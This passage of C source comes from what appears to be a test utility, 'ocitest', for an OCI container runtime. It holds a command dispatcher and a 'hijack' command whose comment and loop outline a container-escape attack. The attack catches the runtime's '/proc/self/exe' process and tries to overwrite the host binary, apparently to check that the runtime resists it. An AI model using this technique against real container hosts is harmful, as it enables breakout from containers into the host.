    }
    int n = 0;
    struct dirent *e;
    while ((e = readdir(d)))
      if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) n++;
    closedir(d);
    printf("entries=%d\n", n);
    return 2;
  }
  if (!strcmp(cmd, "hijack")) {
    /* hijack FIFO STOPFILE SECS: until STOPFILE exists or SECS pass, watch
     * our pid namespace for processes running a binary that is not one of
     * the rootfs's (the runtime: before its execve, or run by the kernel as
     * "#!/proc/self/exe"); grab their exe, unblock a writer of FIFO, wait for
     * the process to exit, then try to overwrite the binary. One line per
     * catch, then "caught=N wrote=M". Prints "watching" once started. */
    if (argc < 4) {
      fprintf(stderr, "ocitest hijack: usage: hijack FIFO STOPFILE SECS\n");
      return -1;
    }
    static struct hijack_ctx c;
    memset(&c, 0, sizeof c);
    c.fifo = argv[1];
    long long deadline = now_ms() + 1000LL * atoi(argv[3]);
    printf("watching\n");
    fflush(stdout);
    while (now_ms() < deadline && access(argv[2], F_OK) != 0) for_each_pid(hijack_one, &c);
    printf("caught=%d wrote=%d\n", c.caught, c.wrote);
    return 4;
  }
  if (!strcmp(cmd, "echo") || !strcmp(cmd, "stderr")) {
    FILE *out = !strcmp(cmd, "echo") ? stdout : stderr;
    int i = 1;
    for (; i < argc && strcmp(argv[i], "+") != 0; i++) fprintf(out, "%s%s", i > 1 ? " " : "", argv[i]);
    fprintf(out, "\n");
    return i;
  }
  fprintf(stderr, "ocitest: unknown command %s\n", cmd);
  return -1;
#undef NEED_ARG
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) {
    usage();
    return 2;
  }
  int i = 1;
  while (i < argc) {
    if (!strcmp(argv[i], "+")) {
      i++;
      continue;
    }
    int used = run_one(argc - i, argv + i);
    if (used < 0) {
      usage();
      return 2;
    }
    i += used;
    fflush(stdout);
  }
  return 0;
}
